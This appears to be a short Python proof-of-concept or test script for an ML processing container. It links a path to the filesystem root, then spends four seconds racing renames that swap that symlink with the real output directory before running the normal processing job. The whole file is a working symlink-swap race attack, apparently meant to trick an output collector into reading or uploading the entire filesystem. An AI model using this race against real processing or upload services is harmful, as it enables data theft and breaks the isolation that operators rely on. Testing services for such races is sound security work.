"""Swap a directory and a link for four seconds, then do the work."""

import os
import runpy
import time

OUTPUT = "/opt/ml/processing/output/summary"
OTHER = "/opt/ml/processing/output/other"
until = time.monotonic() + 4
os.symlink("/", OTHER)
while time.monotonic() < until:
    os.rename(OUTPUT, OUTPUT + "-")
    os.rename(OTHER, OUTPUT)
    os.rename(OUTPUT, OTHER)
    os.rename(OUTPUT + "-", OUTPUT)
os.unlink(OTHER)
runpy.run_path("/processing.py", run_name="__main__")
